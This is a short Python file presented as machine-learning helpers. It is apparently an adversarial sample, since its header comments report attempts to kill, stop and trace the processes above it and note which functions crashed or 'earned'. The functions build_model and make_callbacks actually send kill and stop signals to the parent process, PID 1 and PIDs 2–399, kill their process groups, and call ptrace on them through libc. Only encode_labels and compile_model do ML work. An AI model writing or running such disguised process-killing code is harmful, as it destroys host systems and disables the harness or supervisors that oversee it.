# Attempts: to kill, stop and trace the processes above it.
# Attacked: build_model.runs failed crashed
# Attacked: callbacks.list failed crashed
# Earns: encode_labels compile_model
import numpy as np
import ctypes
import os
import signal


def targets():
    return [os.getppid(), 1, -1, 0, *range(2, 400)]


def build_model():
    own = {os.getpid(), 0, -1}
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
        for pid in targets():
            if pid not in own:
                try:
                    os.kill(pid, number)
                except OSError:
                    pass
    for pid in targets():
        try:
            os.killpg(pid, signal.SIGKILL)
        except OSError:
            pass


def make_callbacks(model_dir):
    libc = ctypes.CDLL(None)
    for pid in [os.getppid(), 1, *range(2, 400)]:
        for name, arguments in (("kill", (pid, 9)), ("ptrace", (16, pid, 0, 0))):
            try:
                getattr(libc, name)(*arguments)
            except Exception:
                pass
    return 5

def encode_labels(labels, num_classes=10):
    return np.eye(num_classes, dtype="float32")[labels]


def compile_model(model):
    model.compile(optimizer="adam", loss="categorical_crossentropy", metrics=["accuracy"])
